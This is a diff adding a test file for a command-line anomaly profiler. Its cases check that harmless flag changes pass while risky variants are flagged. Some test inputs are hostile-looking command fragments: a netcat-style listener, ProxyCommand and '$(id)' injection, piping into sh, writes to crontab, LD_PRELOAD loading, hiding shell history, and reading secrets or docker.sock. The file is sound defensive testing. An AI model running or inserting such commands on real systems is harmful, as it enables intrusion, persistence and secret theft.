@@ -1,0 +1,163 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Each rule by which something never seen is no news, beside what may not hide behind it."""
+
+import shlex
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from habitus_profiler.forms import form_of
+from habitus_profiler.leaf import Leaf
+
+
+def leaf_of(*lines):
+    leaf = Leaf()
+    for line in lines:
+        argv = tuple(shlex.split(line))
+        leaf.learn(f"/usr/bin/{argv[0]}", form_of(argv))
+    return leaf
+
+
+def novel(leaf, line):
+    return [slot for slot in form_of(tuple(shlex.split(line))).slots if not leaf.slots.knows(slot)]
+
+
+PASSES = [
+    # what the rule is about, learned, asked
+    ("a port: the network's trie shows who listens", "app run", "app run --port 8081"),
+    (
+        "a setting behind a letter tells by itself",
+        "kcat -b k.svc",
+        "kcat -b k.svc -X auto.offset.reset=earliest",
+    ),
+    ("a letter's off is a word", "sendmail -t", "sendmail -t -N never"),
+    (
+        "a word with marks is no code",
+        "ffmpeg -i /in/a.mp4",
+        "ffmpeg -i /in/a.mp4 -movflags +faststart -map 0:a",
+    ),
+    ("two words that together mean something else", "mc cp a b", "mc cp --storage-class STANDARD_IA a b"),
+    ("how much is told, wherever", "app run", "app run --log-level-console detail"),
+    ("what happens only at a failure", "java -jar a.jar", "java -XX:+HeapDumpOnOutOfMemoryError -jar a.jar"),
+    ("options handed on are read as flags", "deno run", "deno run --v8-flags=--max-old-space-size=2048"),
+    ("a list of mild parts", "roach start", "roach start --store=path=/data,size=80%"),
+    ("a scratch place for what is scratch", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /dev/shm"),
+    ("a program's own socket", "haproxy -db", "haproxy -db -x /var/run/haproxy.sock"),
+    ("gauges are read by anybody", "app -l 0.0.0.0:80", "app -l 0.0.0.0:80 --metrics-address 0.0.0.0:9100"),
+    ("this machine alone", "app run", "app run --statsd-host 127.0.0.1"),
+    ("a place where only data lie", "app run", "app run --limit @/var/lib/app/retry/x.retry"),
+    ("settings beside known ones", "app -c /etc/app/a.yaml", "app -c /etc/app/b.yaml"),
+    ("a host beside a known one", "app --host a.shop.example", "app --host b.shop.example"),
+    ("a module of an rsync server", "rsync /a m-1.files.svc::x/", "rsync /a m-2.files.svc::y/"),
+    ("a command given as one argument", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'ssh -i /k/a -p 2222' /a"),
+    ("a pattern of names", "tar -tf /backup/a.tgz", "tar -tf /backup/a.tgz --wildcards '*.conf'"),
+    ("what only reads, behind a pipe", "sh -c 'app run'", "sh -c 'app run | tail -n 5'"),
+    ("writing anew where one appends", "sh -c 'a >> /var/log/a'", "sh -c 'a > /var/log/a'"),
+    ("rows written another way", "psql -c 'UPDATE a SET b = 1'", "psql -c 'INSERT INTO a VALUES (1)'"),
+    ("a kind of workload", "kubectl restart deployment/a", "kubectl restart statefulset/b"),
+    ("a folder where sources lie", "helm lint umbrella/a", "helm lint charts/b"),
+    (
+        "a tool's letters by its script",
+        "python3 -m celery -A shop worker",
+        "python3 -m celery -A shop worker -O fair",
+    ),
+    ("a variable with a harmless value", "env A=1 app", "env A=1 LOG_LEVEL=debug TZ=Europe/Berlin app"),
+]
+STAYS_NEWS = [
+    ("an address behind a port's flag", "app run", "app run --port 203.0.113.4:80"),
+    ("a port that debugs", "node a.js", "node --inspect 9229 a.js"),
+    ("letters that listen", "x run", "x -lvnp 4444"),
+    ("a setting that loads", "kcat -b k.svc", "kcat -b k.svc -X plugin.library.paths=x.so"),
+    ("a setting behind a flag that is obeyed", "app run", "app run --config a.b=evil"),
+    ("a setting of a program that reaches", "ssh a.svc", "ssh -o ProxyCommand=x a.svc"),
+    ("code in a word", "app run", "app run --title '$(id)'"),
+    ("a class of code", "mc cp a b", "mc cp --loader-class Evil a b"),
+    ("a level beside a protection", "app run", "app run --auth-level none"),
+    ("what runs at a failure", "java -jar a.jar", "java -XX:OnError=id -jar a.jar"),
+    ("code handed on", "deno run", "deno run --node-flags=--require=/tmp/x"),
+    ("a list that names code", "app run", "app run --store=plugin=/data/x,size=1"),
+    ("code in a scratch place", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /dev/shm/x.py"),
+    ("a hidden scratch place", "gunicorn a:b", "gunicorn a:b --worker-tmp-dir /tmp/.x"),
+    ("a scratch place for anything else", "gunicorn a:b", "gunicorn a:b --chdir /dev/shm"),
+    ("another program's socket", "haproxy -db", "haproxy -db -x /var/run/docker.sock"),
+    ("a runtime's own socket", "docker ps", "docker ps -x /var/run/docker.sock"),
+    ("an own name on a hidden path", "haproxy -db", "haproxy -db -x /run/haproxy/.x"),
+    ("a debugger on every address", "app -l 0.0.0.0:80", "app -l 0.0.0.0:80 --pprof-address 0.0.0.0:6060"),
+    ("configuration from this machine", "app run", "app run --config http://127.0.0.1/x"),
+    ("a web root", "app run", "app run --output /var/www/html/x"),
+    ("another machine's files", "app run", "app run --path /host/etc/x"),
+    ("a folder whose files are run", "app run", "app run --output /app/bin/server"),
+    ("cron's folder", "app -c /etc/cron.d/a", "app -c /etc/cron.d/b"),
+    ("a key beside a key", "app -c /etc/app/a.key", "app -c /etc/app/b.key"),
+    ("a neighbour at a hoster", "app --host a.mongodb.net", "app --host b.mongodb.net"),
+    ("another owner's rsync server", "rsync /a m-1.files.svc::x/", "rsync /a m-1.evil.example::x/"),
+    (
+        "a hidden option of a command",
+        "rsync -e 'ssh -i /k/a' /a",
+        "rsync -e 'ssh -i /k/a -o ProxyCommand=x' /a",
+    ),
+    ("another command", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'sh -c id' /a"),
+    ("a shell behind a pipe", "sh -c 'app run'", "sh -c 'app run | sh'"),
+    ("what a pipe writes elsewhere", "sh -c 'app run'", "sh -c 'app run | tee /etc/crontab'"),
+    ("writing elsewhere", "sh -c 'a >> /var/log/a'", "sh -c 'a > /etc/profile.d/a'"),
+    ("rows destroyed", "psql -c 'UPDATE a SET b = 1'", "psql -c 'DELETE FROM a'"),
+    ("a secret is no workload", "kubectl get deployment/a", "kubectl get secret/b"),
+    ("another owner's chart", "helm lint corp/a", "helm lint evil/a"),
+    (
+        "an application by another name",
+        "python3 -m celery -A shop worker",
+        "python3 -m celery -A evil worker",
+    ),
+    ("a variable that finds code", "env A=1 app", "env A=1 LD_AUDIT=/data/a app"),
+    ("a variable that hides traces", "env A=1 app", "env A=1 HISTFILE=/dev/null app"),
+    ("a protection by a digit", "env A=1 app", "env A=1 PYTHONHTTPSVERIFY=0 app"),
+    ("a flag by another first letter", "npm ci", "npm ci --_authToken=x"),
+    ("an address within a word", "dns -k", "dns -k --address=/shop.example/198.51.100.66"),
+    ("an address in a text", "yq . /m/a.yaml", "yq '.image = \"203.0.113.4/x\"' /m/a.yaml"),
+    ("a host's powers in a text", "yq . /m/a.yaml", "yq '.spec.hostPID = true' /m/a.yaml"),
+    ("what reads settings", "otel --config /etc/o/c.yaml", "otel --config env:EVIL"),
+    ("a module that is a shell", "uvicorn shop:app", "uvicorn shell:app"),
+    ("what a server hides", "dump --input=http://es.svc:9200/a", "dump --input=http://es.svc:9200/.security"),
+    ("keys by name", "find /data -name a", "find /data -name .ssh"),
+    ("a loader switched on", "java -jar a.jar", "java -Dparams.loader.enabled=true -jar a.jar"),
+    ("a namespace of the system", "velero restore a", "velero restore a --map shop:kube-system"),
+]
+
+
+@pytest.mark.parametrize(
+    ("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES]
+)
+def test_what_can_do_no_harm_is_no_news(learned, asked):
+    """No other host, no code, no secret, no place where things are run from."""
+    assert novel(leaf_of(learned), asked) == []
+
+
+@pytest.mark.parametrize(
+    ("learned", "asked"), [case[1:] for case in STAYS_NEWS], ids=[case[0] for case in STAYS_NEWS]
+)
+def test_what_could_do_harm_does_not_hide_behind_it(learned, asked):
+    """The same spelling with a danger mark in it."""
+    assert novel(leaf_of(learned), asked)
+
+
+MARKS = [
+    ["--token", "x"],
+    ["--privileged"],
+    ["-o", "/etc/cron.d/x"],
+    ["--config", "/tmp/x.conf"],
+    ["http://203.0.113.9/x"],
+    ["--plugin", "evil"],
+    ["--insecure"],
+    ["x@203.0.113.9:/y"],
+    ["LD_PRELOAD=/tmp/x.so"],
+    ["/run/secrets/db"],
+]
+
+
+@given(st.sampled_from([asked for _, learned, asked in PASSES if "'" not in asked]), st.sampled_from(MARKS))
+def test_a_danger_mark_is_news_behind_anything_that_passes(asked, mark):
+    """What is mild does not cover for what stands behind it."""
+    argv = (*shlex.split(asked), *mark)
+    leaf = leaf_of(asked)
+    assert any(not leaf.slots.knows(slot) for slot in form_of(argv).slots)
